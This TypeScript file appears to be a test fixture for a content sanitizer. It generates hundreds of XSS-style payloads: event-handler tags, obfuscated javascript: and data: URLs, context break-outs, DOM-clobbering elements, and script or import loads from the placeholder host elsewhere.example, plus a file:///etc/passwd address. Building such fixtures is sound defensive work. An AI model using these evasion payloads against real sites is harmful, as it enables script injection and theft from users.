/**
 * Words that would run, fetch or deface if a page took them for code, composed from the known forms: elements that
 * act by themselves, event attributes in every quoting and spacing, schemes in every disguise, break-outs of every
 * context. Each calls `hit` or asks for a file at `elsewhere.example`.
 */

const call = 'globalThis.__hit=1';
const elsewhere = 'https://elsewhere.example/x';

const events: [tag: string, attributes: string, event: string][] = [
  ['img', 'src=x', 'onerror'],
  ['svg', '', 'onload'],
  ['body', '', 'onload'],
  ['input', 'autofocus', 'onfocus'],
  ['select', 'autofocus', 'onfocus'],
  ['textarea', 'autofocus', 'onfocus'],
  ['details', 'open', 'ontoggle'],
  ['video', 'src=x', 'onerror'],
  ['audio', 'src=x', 'onerror'],
  ['marquee', '', 'onstart'],
  ['object', 'data=x', 'onerror'],
  ['iframe', '', 'onload'],
  ['a', 'href=#', 'onclick'],
  ['b', '', 'onmouseover'],
  ['div', 'contenteditable', 'onbeforeinput'],
  ['form', '', 'oninput'],
];

/** How an attribute may lean on what stands before it. */
const joints = [' ', '\n', '\t', '/', ' / ', '\f'];
const quotings = [(value: string) => `"${value}"`, (value: string) => `'${value}'`, (value: string) => value];

const eventTags = events.flatMap(([tag, attributes, event], index) =>
  joints.map((joint, at) => {
    const quoted = quotings[(index + at) % 3]!(call);
    const name = at % 2 ? tag.toUpperCase() : tag;
    return `<${[name, attributes, `${at % 3 ? event : event.toUpperCase()}=${quoted}`].filter(Boolean).join(joint)}${at % 2 ? '>' : ' />'}`;
  }),
);

const glued = events.flatMap(([tag, , event]) => [
  `<${tag} alt="a"${event}="${call}" src="x" />`,
  `<${tag} {...{${event}: () => ${call}}} />`,
  `<${tag} ${event}={() => ${call}} />`,
]);

const elements = [
  `<script>${call}</script>`,
  `<ScRiPt>${call}</sCrIpT>`,
  `<script src="${elsewhere}.js"></script>`,
  `<script/x>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `</script><script>${call}</script>`,
  `</title><script>${call}</script>`,
  `</style><img src=x onerror=${call}>`,
  `</textarea><img src=x onerror=${call}>`,
  `--><img src=x onerror=${call}>`,
  `]]><img src=x onerror=${call}>`,
  `<!--<img src="--><img src=x onerror=${call}//">`,
  `<![CDATA[<img src=x onerror=${call}>]]>`,
  `<?xml-stylesheet href="${elsewhere}"?>`,
  `<!DOCTYPE x [<!ENTITY a SYSTEM "${elsewhere}">]>`,
  `<iframe srcdoc="<script>parent.__hit=1</script>"></iframe>`,
  `<iframe src="javascript:parent.__hit=1"></iframe>`,
  `<iframe src="${elsewhere}"></iframe>`,
  `<object data="javascript:${call}"></object>`,
  `<embed src="javascript:${call}" />`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}" />`,
  `<base href="${elsewhere}/" />`,
  `<link rel="stylesheet" href="${elsewhere}.css" />`,
  `<link rel="import" href="${elsewhere}" />`,
  `<style>@import "${elsewhere}.css";</style>`,
  `<style>body\\{background:url(${elsewhere}.png)\\}</style>`,
  `<p style="position:fixed;inset:0;background:url(${elsewhere}.png)">x</p>`,
  `<form action="${elsewhere}"><button>x</button></form>`,
  `<button formaction="javascript:${call}">x</button>`,
  `<isindex action="javascript:${call}" type="submit" />`,
  `<img src="x" srcset="${elsewhere}.png 2x" alt="a" />`,
  `<picture><source srcset="${elsewhere}.png" /></picture>`,
  `<video poster="${elsewhere}.png"></video>`,
  `<math><mi xlink:href="javascript:${call}">x</mi></math>`,
  `<svg><a xlink:href="javascript:${call}"><text>x</text></a></svg>`,
  `<svg><set attributeName="href" to="javascript:${call}" /></svg>`,
  `<svg><animate onbegin="${call}" attributeName="x" dur="1s" /></svg>`,
  `<svg><foreignObject><img src="x" onerror="${call}" /></foreignObject></svg>`,
  `<svg><use href="data:image/svg+xml,<svg onload='${call}'/>" /></svg>`,
  `<template><img src=x onerror=${call}></template>`,
  `<plaintext>`,
  `<noscript><p title="</noscript><img src=x onerror=${call}>">`,
  `<xmp><img src=x onerror=${call}></xmp>`,
  `<div set:html="<img src=x onerror=${call}>">x</div>`,
  `<div set:text={${call}}>x</div>`,
  `<Fragment set:html={"<img src=x onerror=${call}>"} />`,
  `<Anh src="x" alt="a" onerror="${call}" />`,
  `<Anh src={${call}} alt="a" />`,
  `<Anh {...{}} src="x" alt="a" />`,
  `<Anh src="${elsewhere}.png" alt="a">Chú thích</Anh>`,
  `<Anh src="javascript:${call}" alt="a">Chú thích</Anh>`,
  `<Anh src="//elsewhere.example/x.png" alt="a">Chú thích</Anh>`,
  `<Anh src="x.svg" alt="a"><img src=x onerror=${call}></Anh>`,
  `<a id="location" href="${elsewhere}">x</a>`,
  `<img name="body" src="x" alt="a" />`,
  `<form id="document"><input name="body" /></form>`,
];

const disguises = [
  (scheme: string) => `${scheme}:`,
  (scheme: string) => `${scheme.toUpperCase()}:`,
  (scheme: string) => `${scheme.slice(0, 4)}&Tab;${scheme.slice(4)}:`,
  (scheme: string) => `${scheme.slice(0, 4)}&NewLine;${scheme.slice(4)}:`,
  (scheme: string) => `${scheme}&colon;`,
  (scheme: string) => `${scheme}&#58;`,
  (scheme: string) => `${scheme}&#x3a;`,
  (scheme: string) => `&#${scheme.charCodeAt(0)};${scheme.slice(1)}:`,
  (scheme: string) => `&#x${scheme.charCodeAt(0).toString(16)};${scheme.slice(1)}:`,
  (scheme: string) => `&#0000${scheme.charCodeAt(0)};${scheme.slice(1)}:`,
  (scheme: string) => `\u0001${scheme}:`,
  (scheme: string) => `\u00a0${scheme}:`,
  (scheme: string) => `\u200b${scheme}:`,
  (scheme: string) => `${scheme.slice(0, 2)}\u00ad${scheme.slice(2)}:`,
];
const schemes = ['javascript', 'vbscript', 'data', 'livescript'];
const addresses = [
  ...schemes.flatMap((scheme) =>
    disguises.map(
      (disguise) => `${disguise(scheme)}${scheme === 'data' ? `text/html,<script>${call}</script>` : call}`,
    ),
  ),
  'file:///etc/passwd',
  'blob:https://a.example/x',
  'view-source:https://a.example',
  '\\\\elsewhere.example\\x.png',
  '/\\elsewhere.example/x.png',
  'https:elsewhere.example',
];

const links = addresses.flatMap((url, index) => {
  const bracketed = /[\s<>]/.test(url) ? url.replace(/[\s<>]/g, '') : url;
  return [
    `[x](${bracketed.replace(/[()]/g, '')})`,
    `![x](${bracketed.replace(/[()]/g, '')})`,
    `[x][h${index}]\n\n[h${index}]: ${bracketed}`,
  ];
});

const pictures = [
  `![a](${elsewhere}.png)`,
  `![a](//elsewhere.example/x.png)`,
  `![a][p]\n\n[p]: ${elsewhere}.png`,
  `![a](data:image/svg+xml,%3Csvg%20onload=${call}%3E)`,
];

const expressions = [
  `{${call}}`,
  '{`${globalThis.__hit=1}`}',
  `{await import("${elsewhere}.js")}`,
  `{/* */ ${call} /* */}`,
  `{*/ ${call} /*}`,
  `import x from "${elsewhere}.js"`,
  `import "${elsewhere}.js"`,
  `import * as x from 'node:fs'`,
  `import {x} from 'node:fs'`,
  `export const x = ${call}`,
  `export default () => ${call}`,
  `export {x} from 'node:fs'`,
  `export * from 'node:fs'`,
];

/** Each by itself in a body would act, were it taken for code. */
export const hostileBodies: readonly string[] = [
  ...new Set([...eventTags, ...glued, ...elements, ...links, ...pictures, ...expressions]),
];

/** The same as words of one line, for a field of a declaration or of an authority file. */
export const hostileWords: readonly string[] = [
  ...new Set([...eventTags, ...glued, ...elements, ...addresses, ...pictures, ...expressions]),
].map((words) => words.replace(/[\s\p{Cc}]+/gu, ' ').trim());
